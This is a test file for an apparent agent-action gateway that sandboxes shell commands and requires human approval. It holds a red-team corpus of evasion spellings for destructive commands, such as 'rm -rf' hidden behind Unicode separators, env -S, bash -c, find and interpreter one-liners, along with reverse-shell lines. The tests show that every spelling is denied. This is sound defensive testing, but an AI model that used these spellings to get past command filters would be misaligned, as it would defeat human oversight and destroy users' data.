/**
 * The shell path end to end, as an agent with a token would attack it: a real gateway, the
 * README's shell target (plus every binary the attacks need, so a policy hole would really
 * run), real processes inside bubblewrap.
 *
 * - Hostile corpus: at least three spellings of every class the red team found. At L5 each
 *   hard-deny class is denied (not held), nothing executes, and a canary directory outside
 *   the workdir survives.
 * - Decided equals executed: for generated command lines (every Unicode whitespace and
 *   control class, quoting, escapes), the argv the gateway decides on is byte for byte the
 *   argv the driver spawns, or the line is denied; a sample really runs and prints its argv.
 * - Kills: a grandchild, a setsid grandchild and a double-forked daemon are gone within 1 s
 *   of a timeout, an abort, a batch cancel and an emergency stop, checked by host pid.
 * - Output: stdout and stderr, capped, are shown with the action; the audit keeps the hashes.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ShellDriver } from '../drivers/shell/driver.ts';
import {
  anyWith,
  descendants,
  newMarker,
  SPAWNER,
  waitFor as waitUntil,
} from '../drivers/shell/testing.ts';
import { hostileLine, trickyCharacter } from '../gateway/decide/shell-arbitraries.ts';
import { decideProposal, parseProposal } from '../gateway/lifecycle/propose.ts';
import { startTestGateway, waitFor, type TestGateway } from './helpers/gateway.ts';

// SHELL_DIFF_RUNS=50000 for the long run; CI runs 2,000.
const RUNS = Number(process.env.SHELL_DIFF_RUNS ?? 2_000);
const EXECUTED = Number(process.env.SHELL_DIFF_EXECUTED ?? 120);

const README_ALLOW = ['/usr/bin/ls', '/usr/bin/cat', '/usr/bin/git'];
const ATTACK_ALLOW = [
  '/usr/bin/env',
  '/bin/bash',
  '/usr/bin/bash',
  '/usr/bin/sh',
  '/usr/bin/rm',
  '/usr/bin/find',
  '/usr/bin/python3',
  '/usr/bin/perl',
  '/usr/bin/nice',
  '/usr/bin/stdbuf',
  '/usr/bin/ionice',
  '/usr/bin/timeout',
  '/usr/bin/xargs',
  '/usr/bin/printf',
  '/usr/bin/curl',
  '/usr/bin/rsync',
  '/usr/bin/dash',
  '/usr/bin/flock',
  '/usr/bin/prlimit',
  '/usr/bin/python3.11',
];

interface ActionBody {
  action: {
    id: string;
    status: string;
    params: Record<string, unknown>;
    outcome: Record<string, unknown> | null;
  };
  decision: { effect: string; stage: string; rules: string[]; reasons: string[] };
}

let t: TestGateway;
let work: string;
let outside: string;
let canary: string;

beforeAll(async () => {
  work = mkdtempSync(path.join(tmpdir(), 'interlock-shell-work-'));
  outside = mkdtempSync(path.join(tmpdir(), 'interlock-shell-outside-'));
  canary = path.join(outside, 'canary');
  mkdirSync(canary);
  writeFileSync(path.join(canary, 'keep.txt'), 'must survive\n');
  const allow = [...README_ALLOW, ...ATTACK_ALLOW].filter((b) => existsSync(b));
  t = await startTestGateway({
    targets: [
      {
        id: 'ws',
        driver: 'shell',
        level: 'L5',
        options: { allow, workdir: work, timeoutMs: 20_000 },
      },
      {
        id: 'ws-plus',
        driver: 'shell',
        level: 'L3+',
        options: { allow, workdir: work, timeoutMs: 20_000 },
      },
      {
        id: 'ws-quick',
        driver: 'shell',
        level: 'L3',
        options: { allow: ['/usr/bin/python3'], workdir: work, timeoutMs: 1_500 },
      },
      {
        id: 'ws-kill',
        driver: 'shell',
        level: 'L3',
        options: {
          allow: ['/usr/bin/python3', '/usr/bin/printf'],
          workdir: work,
          timeoutMs: 20_000,
        },
      },
    ],
  });
}, 60_000);

afterAll(async () => {
  await t?.close();
  rmSync(work, { recursive: true, force: true });
  rmSync(outside, { recursive: true, force: true });
});

const propose = (target: string, params: Record<string, unknown>) =>
  t.api<ActionBody>(t.tokens.agent, 'POST', '/v1/actions', { kind: 'shell.exec', target, params });

describe('the hostile corpus through the gateway at L5', () => {
  const C = () => canary;
  // [class, spellings]: every spelling must be denied at L5, not held.
  const hardDeny: [string, () => (string | { argv: string[] })[]][] = [
    [
      'separators that hide text',
      () => [
        `git\u000b-c\u000balias.x=!rm\u000b-rf\u000b${C()}\u000bx\u000b./ls`,
        `git -c alias.x=!rm\u00a0-rf\u00a0${C()} x ./ls`,
        `ls\u200b ${C()}`,
        `cat\u3000${C()}/keep.txt`,
        { argv: ['/usr/bin/ls', `a\u202e${C()}`] },
        `ls ${C()}\ud800`,
      ],
    ],
    [
      'env -S, an opaque command line',
      () => [
        `env -S 'rm -rf ${C()}' ls`,
        `env --split-string='rm -rf ${C()}' ls`,
        `/usr/bin/env --split 'rm -rf ${C()}'`,
        `env -iS 'rm -rf ${C()}'`,
      ],
    ],
    [
      'rm -rf, long options abbreviated',
      () => [
        `rm --recursiv --forc ${C()}`,
        `rm --rec --f ${C()}`,
        `/usr/bin/rm --recursive -f ${C()}`,
        `rm -rvf ${C()}`,
      ],
    ],
    [
      'bash -c with options before the script',
      () => [
        `bash -c -- 'rm -rf ${C()}'`,
        `bash -e -c 'rm -rf ${C()}'`,
        `bash -o errexit -c 'rm -rf ${C()}'`,
      ],
    ],
    [
      'wrapper options the analysis must read',
      () => [
        `stdbuf --output L rm -rf ${C()}`,
        `ionice --class 3 rm -rf ${C()}`,
        `nice --adj 5 rm -rf ${C()}`,
        `timeout --kill-after=1 9 rm -rf ${C()}`,
      ],
    ],
    [
      'wrapper options nobody knows',
      () => [
        `stdbuf --outputx L rm -rf ${C()}`,
        `env --frobnicate rm -rf ${C()}`,
        `nice -5 rm -rf ${C()}`,
      ],
    ],
    [
      'positional expansion in sh -c',
      () => [
        `bash -c '"$@"' _ rm -rf ${C()}`,
        `sh -c '$0 -rf ${C()}' rm`,
        `bash -c '\${1} -rf ${C()}' _ rm`,
      ],
    ],
    [
      'recursive deletion through find',
      () => [
        `find ${C()} -delete`,
        `find ${C()} -exec rm -rf {} +`,
        `find ${C()} -execdir rm {} ';'`,
      ],
    ],
    [
      'deletion in an interpreter one-liner',
      () => [
        `python3 -c "import shutil; shutil.rmtree('${C()}')"`,
        `python3 -c "import os; os.system('rm -rf ${C()}')"`,
        `perl -e 'use File::Path; remove_tree("${C()}")'`,
      ],
    ],
    [
      'network tools, by program',
      () => [
        '/usr/bin/curl http://127.0.0.1:9/',
        "'curl' http://127.0.0.1:9/",
        '/bin/nc -e /bin/sh 127.0.0.1 9',
        'ncat --exec /bin/sh 127.0.0.1 9',
        'socat tcp:127.0.0.1:9 exec:sh',
        'rsync -e /usr/bin/ssh a 127.0.0.1:b',
      ],
    ],
    [
      'a second red-team pass',
      () => [
        `bash -oc errexit 'rm -rf ${C()}'`,
        `dash -oc errexit 'rm -rf ${C()}'`,
        `env =x rm -rf ${C()}`,
        `find ${C()} -maxdepth 0 -exec env -u + rm -rf ${C()} {} ';'`,
        `flock ${C()}/../lk -c 'rm -rf ${C()}'`,
        `sh -c 'FOO=1 rm -rf ${C()}'`,
        `bash -c '{rm,-rf,${C()}}'`,
        `prlimit rm -rf ${C()}`,
        `python3.11 -c "import shutil; shutil.rmtree('${C()}')"`,
        `rm -r ${C()}`,
      ],
    ],
    [
      'shell syntax on the command line',
      () => [
        `ls; rm -rf ${C()}`,
        `ls && rm -rf ${C()}`,
        `echo $(rm -rf ${C()})`,
        `ls > ${C()}/keep.txt`,
      ],
    ],
  ];

  it.each(hardDeny)(
    '%s: every spelling is denied at L5, none runs, the canary survives',
    async (_cls, spellings) => {
      for (const s of spellings()) {
        const r = await propose('ws', typeof s === 'string' ? { command: s } : s);
        // A lone surrogate is refused at the door (422 naming the field): nothing is stored.
        if (r.status === 422) {
          expect(JSON.stringify(r.body)).toContain('not well-formed Unicode');
          continue;
        }
        expect(r.status, JSON.stringify(r.body)).toBe(201);
        expect(
          r.body.decision.effect,
          `${JSON.stringify(s)}: ${JSON.stringify(r.body.decision)}`,
        ).toBe('deny');
        expect(r.body.action.status).toBe('DENIED');
      }
      expect(existsSync(path.join(canary, 'keep.txt'))).toBe(true);
    },
  );

  it('never calls ./ls or /tmp/x/ls safe, nor env or an interpreter: at L3+ they wait for a person', async () => {
    for (const command of [
      './ls',
      `${work}/ls`,
      '/tmp/x/ls',
      'env ls',
      'python3 -c "print(1)"',
      'git status',
      `ls ${canary}`.replace('ls', '/usr/bin/../bin/ls'),
    ]) {
      const r = await propose('ws-plus', { command });
      expect(r.body.decision.effect, command).not.toBe('allow');
    }
    const safe = await propose('ws-plus', { command: 'ls' });
    expect(safe.body.decision.effect).toBe('allow');
    expect(safe.body.action.params.argv).toEqual(['/usr/bin/ls']);
  });

  it('executed nothing of the corpus, and the canary is intact', async () => {
    const list = await t.api<{
      actions: { status: string; target: string; params: Record<string, unknown> }[];
    }>(t.tokens.auditor, 'GET', '/v1/actions?target=ws&limit=500');
    expect(list.status).toBe(200);
    const ran = list.body.actions.filter(
      (a) =>
        a.target === 'ws' &&
        ['EXECUTING', 'COMPLETED', 'FAILED', 'ABORTED', 'UNKNOWN'].includes(a.status),
    );
    expect(ran).toEqual([]);
    expect(existsSync(path.join(canary, 'keep.txt'))).toBe(true);
  });
});

describe('decided equals executed', () => {
  const printfLine = fc
    .tuple(
      fc.array(
        fc.oneof(
          hostileLine,
          fc.tuple(fc.string({ maxLength: 4 }), trickyCharacter).map(([a, c]) => a + c),
        ),
        { minLength: 1, maxLength: 3 },
      ),
    )
    .map(([parts]) => `printf '%s\\0' ${parts.join(' ')}`);

  it(`the argv the decision is made on is byte for byte what the driver spawns, or the line is denied (${RUNS} runs)`, async () => {
    const deps = t.gw.services.deps;
    const driver = deps.targets.get('ws-kill')!.driver as ShellDriver;
    const principal = { id: 'agent', role: 'agent' as const };
    let compared = 0;
    let denied = 0;
    let refused = 0;
    await fc.assert(
      fc.asyncProperty(fc.oneof(printfLine, hostileLine), async (command) => {
        let envelope;
        let decision;
        try {
          envelope = await parseProposal(deps, principal, {
            kind: 'shell.exec',
            target: 'ws-kill',
            params: { command },
          });
          ({ decision } = await decideProposal(deps, principal, envelope));
        } catch (err) {
          // 422: not a command line at all (empty, or longer than the catalog allows).
          expect(err).toMatchObject({ code: 'validation_failed' });
          denied++;
          return;
        }
        if (decision.effect === 'deny') {
          denied++;
          return;
        }
        const decided = envelope.params.argv as string[];
        let plan;
        try {
          plan = driver.plan(envelope.params);
        } catch (err) {
          // Not on this target's allowlist: the driver refuses it and nothing runs.
          expect(err).toMatchObject({ code: 'driver_rejected' });
          refused++;
          return;
        }
        const vector = driver.spawnVector(plan);
        const spawned = vector.args.slice(vector.args.indexOf('--') + 1);
        expect(spawned.map((a) => Buffer.from(a, 'utf8'))).toEqual(
          decided.map((a) => Buffer.from(a, 'utf8')),
        );
        expect(spawned).toEqual(decided);
        compared++;
      }),
      { numRuns: RUNS },
    );
    expect(compared).toBeGreaterThan(RUNS / 20);
    expect(denied).toBeGreaterThan(0);
    expect(compared + denied + refused).toBe(RUNS);
  }, 600_000);

  it(`and what really runs prints exactly the decided argv (${EXECUTED} executions through the gateway)`, async () => {
    const samples = fc.sample(printfLine, { numRuns: EXECUTED * 10, seed: 17 });
    let executed = 0;
    for (const command of samples) {
      if (executed >= EXECUTED) break;
      // The shell rate invariant allows 20 commands a minute: move the gateway's clock on.
      if (executed % 15 === 0) t.advance(61_000);
      const r = await propose('ws-kill', { command });
      if (r.status !== 201 || r.body.decision.effect === 'deny') continue;
      const id = r.body.action.id;
      expect(
        (await t.api(t.tokens.op1, 'POST', `/v1/actions/${id}/approve`, { reason: 'argv check' }))
          .status,
      ).toBe(200);
      const done = await waitFor(
        async () => {
          const a = await t.api<ActionBody>(t.tokens.agent, 'GET', `/v1/actions/${id}`);
          return ['COMPLETED', 'FAILED'].includes(a.body.action.status) ? a.body : undefined;
        },
        15_000,
        `action ${id} to finish`,
      );
      const argv = done.action.params.argv as string[];
      const output = done.action.outcome?.output as { stdout: string; stdout_truncated: boolean };
      expect(done.action.status, JSON.stringify(done.action.outcome)).toBe('COMPLETED');
      expect(output.stdout_truncated).toBe(false);
      // printf applies its format at least once, so no arguments print one empty field.
      const fields = argv.length > 2 ? argv.slice(2) : [''];
      expect(Buffer.from(output.stdout, 'utf8')).toEqual(
        Buffer.from(fields.map((a) => `${a}\0`).join(''), 'utf8'),
      );
      executed++;
    }
    expect(executed).toBe(EXECUTED);
  }, 600_000);
});

// The spawner runs as a script file in the workdir: a one-liner that starts processes is
// hard-denied.
describe('killing the whole sandbox from the gateway', () => {
  beforeAll(() => writeFileSync(path.join(work, 'spawner.py'), SPAWNER));
  const spawnerParams = (marker: string, seconds: number) => ({
    argv: ['/usr/bin/python3', 'spawner.py', marker, String(seconds)],
  });

  const runningSpawner = async (target: string, marker: string): Promise<string> => {
    t.advance(61_000);
    const r = await propose(target, spawnerParams(marker, 60));
    expect(r.body.decision.effect, JSON.stringify(r.body.decision)).toBe('require_approval');
    expect(
      (
        await t.api(t.tokens.op1, 'POST', `/v1/actions/${r.body.action.id}/approve`, {
          reason: 'kill test',
        })
      ).status,
    ).toBe(200);
    await waitUntil(
      () => descendants(marker).every((p) => p > 0),
      10_000,
      'the three descendants start',
    );
    return r.body.action.id;
  };

  const goneWithinASecond = async (marker: string, from: number): Promise<void> => {
    await waitUntil(
      () => anyWith(marker).length === 0,
      Math.max(0, from + 1000 - performance.now()),
      `every process with ${marker} gone (left: ${anyWith(marker).join(', ')})`,
    );
  };

  it('an abort', async () => {
    const m = newMarker();
    const id = await runningSpawner('ws-kill', m);
    const t0 = performance.now();
    expect([200, 202]).toContain(
      (await t.api(t.tokens.op1, 'POST', `/v1/actions/${id}/abort`, { reason: 'kill test' }))
        .status,
    );
    await goneWithinASecond(m, t0);
  });

  it('a timeout', async () => {
    const m = newMarker();
    await runningSpawner('ws-quick', m);
    // The wall-time limit is 1.5 s from the start; everything is gone within a second of it.
    const started = performance.now();
    await waitUntil(
      () => anyWith(m).length === 0,
      4_000,
      `every process with ${m} gone after the timeout`,
    );
    expect(performance.now() - started).toBeLessThan(1_500 + 1_000);
  });

  it('a batch cancel', async () => {
    const m = newMarker();
    t.advance(61_000);
    const b = await t.api<{ id: string; actions: { id: string }[] }>(
      t.tokens.agent,
      'POST',
      '/v1/batches',
      {
        actions: [
          { kind: 'shell.exec', target: 'ws-kill', params: spawnerParams(m, 60) },
          { kind: 'shell.exec', target: 'ws-kill', params: { argv: ['/usr/bin/printf', 'never'] } },
        ],
        rationale: 'kill test',
      },
    );
    expect(b.status).toBe(201);
    expect(
      (await t.api(t.tokens.op1, 'POST', `/v1/batches/${b.body.id}/approve`, { reason: 'go' }))
        .status,
    ).toBe(200);
    await waitUntil(
      () => descendants(m).every((p) => p > 0),
      10_000,
      'the three descendants start',
    );
    const t0 = performance.now();
    expect(
      (await t.api(t.tokens.op1, 'POST', `/v1/batches/${b.body.id}/cancel`, { reason: 'stop' }))
        .status,
    ).toBe(200);
    await goneWithinASecond(m, t0);
  });

  it('an emergency stop', async () => {
    const m = newMarker();
    await runningSpawner('ws-kill', m);
    const t0 = performance.now();
    expect((await t.api(t.tokens.op1, 'POST', '/v1/estop', { reason: 'kill test' })).status).toBe(
      200,
    );
    await goneWithinASecond(m, t0);
    expect(
      (await t.api(t.tokens.op1, 'POST', '/v1/estop/rearm', { reason: 'kill test over' })).status,
    ).toBe(200);
  });
});

describe('output', () => {
  it('is stored with the outcome, capped and marked, shown by GET /v1/actions/:id; the audit keeps only its hashes', async () => {
    t.advance(61_000);
    const r = await propose('ws-kill', {
      argv: [
        '/usr/bin/python3',
        '-c',
        "import sys;sys.stdout.write('o'*200000);sys.stderr.write('e'*10)",
      ],
    });
    await t.api(t.tokens.op1, 'POST', `/v1/actions/${r.body.action.id}/approve`, {
      reason: 'output test',
    });
    const done = await waitFor(
      async () => {
        const a = await t.api<ActionBody>(t.tokens.agent, 'GET', `/v1/actions/${r.body.action.id}`);
        return a.body.action.status === 'COMPLETED' ? a.body : undefined;
      },
      15_000,
      'the output action to finish',
    );
    const out = done.action.outcome!.output as Record<string, unknown>;
    expect(out).toMatchObject({
      stdout_truncated: true,
      stderr_truncated: false,
      stderr: 'eeeeeeeeee',
      exit_code: 0,
    });
    expect((out.stdout as string).length).toBe(64 * 1024);
    const audit = await t.api<{
      records: {
        type: string;
        action_id: string;
        payload: { outcome?: Record<string, unknown> };
      }[];
    }>(t.tokens.auditor, 'GET', `/v1/audit?action_id=${r.body.action.id}&type=action.completed`);
    const rec = audit.body.records.find((x) => x.action_id === r.body.action.id)!;
    expect(rec.payload.outcome?.output).toBeUndefined();
    expect(rec.payload.outcome?.output_digests).toEqual({
      stdout_sha256: out.stdout_sha256,
      stderr_sha256: out.stderr_sha256,
    });
  }, 30_000);
});
